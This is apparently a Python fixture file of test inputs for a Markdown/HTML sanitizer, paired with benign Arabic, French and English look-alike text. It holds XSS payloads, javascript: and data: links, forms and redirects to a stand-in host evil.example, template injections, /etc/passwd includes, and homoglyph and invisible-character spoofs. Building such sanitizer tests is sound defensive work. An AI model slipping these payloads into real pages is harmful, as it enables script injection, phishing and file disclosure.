"""What somebody could write to hurt a reader, by kind; and honest text that looks like it."""

from __future__ import annotations

EVIL = "https://evil.example"

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "Before <img src=x onerror=alert(1)> after",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<b onmouseover=alert(1)>bold</b>",
    "<iframe src=//evil.example></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<form action=//evil.example><input name=number></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><p>x</p></template>",
    "<style>body{display:none}</style>",
    "</article></main></body>",
    "<x-widget>x</x-widget>",
    "A line<br>and another",
    "<!-- unseen by readers -->",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "An unclosed <img src=x onerror=alert(1)",
    "\\`<script>alert(1)</script>\\`",
    "`` ` <script>alert(1)</script>",
    "`a` <script>alert(1)</script> `b`",
    "<javascript:alert(1)>",
    "<p title='>' onclick=alert(1)>x</p>",
]
"""Raw HTML, closed or not, drawings among it."""

ATTRIBUTES = [
    "**x**{: onclick=alert(1) }",
    "**x**{onclick=alert(1)}",
    "A paragraph\n{: onclick=alert(1) }",
    "A paragraph\n{: #__config }",
    "A paragraph\n{:.dalil-widget}",
    "[x](https://library.example){: target=_blank }",
    "[x](https://library.example){onmouseover=alert(1)}",
    "*x*{.dalil-widget}",
    "*x*{style=position:fixed}",
    "| a |\n|---|\n| b { onclick=alert(1) } |",
    "### Title { #title onclick=alert(1) }",
    '[x](https://library.example "a title that nobody sees")',
]

LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    '[x](javascript:alert(1) "title")',
    "[x](  javascript:alert(1))",
    "[**x**](javascript:alert(1))",
    "[x\ny](javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,alert)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:../../etc/passwd)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https://library.example@evil.example/)",
    "[x](https://user:word@evil.example/)",
    "[x](../../../etc/passwd)",
    "[x](guide:../../about)",
    "[x](page:about?next=//evil.example)",
    "[x](ftp://evil.example/x)",
]
"""Addresses of a kind that no link may have."""

DISGUISED = [
    "[x](https://xn--nss-5cd.example/)",
    "[x](https://xn--80ak6aa92e.com/)",
]
"""Hosts in letters that look like others."""

OTHER_HOST = [
    f"[www.library.example]({EVIL}/)",
    f"[https://library.example/desk]({EVIL}/)",
    "[library.example](https://library.example.evil.example/)",
    "[The desk (library.example)](https://library-example.evil.example/)",
    f"[**library.example**]({EVIL}/)",
    f"[the desk of\nlibrary.example]({EVIL}/)",
    "[desk@library.example](mailto:desk@evil.example)",
    "[www.library.example](page:sources)",
    f"[LIBRARY.example]({EVIL}/)",
]
"""Words that name another host than the link."""

DEFINITIONS = ["[x][1]\n\n[1]: javascript:alert(1)", f"[x]\n\n[x]: {EVIL}"]
PICTURES = ["![x](evil.svg)", f"![x]({EVIL}/count.png)", "![x](data:image/svg+xml,x)", "![x][1]"]
TEMPLATES = ["{{ 7 * 7 }}", "{{config}}", "{% include '/etc/passwd' %}", "{# unseen #}", "`{{ 7 * 7 }}`"]
SNIPPETS = ['--8<-- "/etc/passwd"', ';--8<-- "../secret.md"', "{!/etc/passwd!}", "::: builder.site", "<<< ../secret.md"]
BLOCKS = ['!!! dalil-widget "x"', '!!! note onclick=alert(1) "x"', '!!! note dalil-result "x"', '??? note "x"']

DIRECTION = [
    f"before{sign}after" for sign in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
]
UNSEEN = [
    f"before{sign}after"
    for sign in "\u0000\u0008\u001b\u007f\u0085\u00ad\u034f\u180e\u200b\u2028\u2029\u2060\u2063\ufeff\ufe0f\ufff9\ufffd"
] + ["before\U000e0041after", "before\ue000after"]
JOINERS = ["CN\u200cSS", "pass\u200dword", " \u200d ", "ال\u200c\u200cصندوق", "ب\u200cCNSS"]
ALPHABETS = [
    "C\u039dSS",  # a Greek letter
    "\u0421NSS",  # a Cyrillic one
    "d\u0430malil",
    "\u0430\u0440\u0440\u04cf\u0435",  # all Cyrillic
    "pay\u0455lip",
    "\u13df\u0430sh",
    "Ϲ\u2115SS",
    "\u2d4fiyya",  # Tifinagh within Latin
    "sa\u0251la",
]
"""Words with a letter of another alphabet that looks like one of their own."""
STANDING_FOR = [
    "\uff23\uff2e\uff33\uff33",
    "\U0001d402\U0001d40d\U0001d412\U0001d412",
    "\ufb01che",
    "\ufefb\ufefa",
    "\u2102NSS",
]
PERSIAN = ["صندو\u06a9", "الصحة\u06cc", "التعويض\u06be", "\u06a9م"]

MARKDOWN = {
    "html": HTML,
    "attributes": ATTRIBUTES,
    "links": LINKS,
    "disguised": DISGUISED,
    "other host": OTHER_HOST,
    "definitions": DEFINITIONS,
    "pictures": PICTURES,
    "templates": TEMPLATES,
    "snippets": SNIPPETS,
    "blocks": BLOCKS,
}
SIGNS = {
    "direction": DIRECTION,
    "unseen": UNSEEN,
    "joiners": JOINERS,
    "alphabets": ALPHABETS,
    "standing for": STANDING_FOR,
    "persian": PERSIAN,
}

HONEST = [
    # Arabic
    "الصندوق الوطني للضمان الاجتماعي (CNSS) وبـCNSS ولـCNSS.",
    "ـــ الصنـدوق، التصريح بالأجور؛ هل انتهى؟ نعم! ٪١٠ و ١٢٣",
    "الطلب\u200c الأول وما\u200cدام",
    "سنة 1447 ه\u200d",
    "مُحَمَّدٌ وَالضَّمَانُ الِاجْتِمَاعِيُّ ﴿نعم﴾",
    "الپاص والڤيديو والڭراج وگاع، تشفير چ",
    "ⵜⴰⵎⴰⵣⵉⵖⵜ و tamaziɣt و ɛli و Ṭanja و taḥanut",
    # French and English
    "« Oui », dit-elle\u202f: «\u00a0non\u00a0» ; l’aîné, l'œuvre, Noël\u202f! N° 5, nº 5, 1ᵉʳ, 2ᵉ, 10\u202f%",
    "Cafe\u0301 de\u0301ja\u0300 vu",
    "Moins de 5 < 10, n < m et a <= b ; 3 > 2 ; x <- y ; si < 780 jours",
    "5 < 10 et 10 > 5",
    "The price is {17.92} or {…}; {a, b}; a set { 1, 2 }; 100 % {environ}.",
    "Write to desk@library.example, or to <desk@library.example>.",
    "See https://library.example/desk?day=1&hour=2#top or <https://library.example>.",
    "[library.example](https://www.library.example/desk) and [www.library.example](https://library.example)",
    "[The desk (library.example)](https://cards.library.example/new_(1))",
    "[https://library.example/desk](https://library.example/desk)",
    "[desk@library.example](mailto:desk@library.example) and [05 22 00 00 00](tel:+212522000000)",
    "[`facts.csv`](data:facts.csv), [the guide](guide:library-card#replace), [here](#replace), [all](page:sources)",
    "[الصندوق](https://www.xn--mgbc0a9azcg/)",
    "[e.g. art. 12](https://library.example) and [M. Dupont, S.A.R.L.](https://library.example)",
    "`<script>` and `{: x }` and `[x](javascript:x)` in code",
    "JavaScript: it is off. javascript: as a word, onclick= as another, data: as a third.",
    "A & B &amp; C; R&D; 5 &lt; 6; &copy;",
    "Well! [[card-validity]] after [^card-remade-free]; [or] [x] (y); [ ] a box",
    "Why??? Because!!! No?! ... -- --- 8<",
    "*one* **two** _three_ `four` \\*five\\* 2*3*4 snake_case_word",
    "α and β, 5 µm, Δ, π, Ω; x² + y³; ½; 10 €; 5 °C; → ↗ ✓ ◐",
    "no, yes, on, off, null, ~, 012, 1_000, 12:30",
    "| a | b |\n|---|--:|\n| 1 | 2 |",
    "1. one\n2. two\n\n   - three\n\n> said\n> again",
    '!!! note "« Titre »"\n    Words.',
    "!!! \n\n??? ",
]
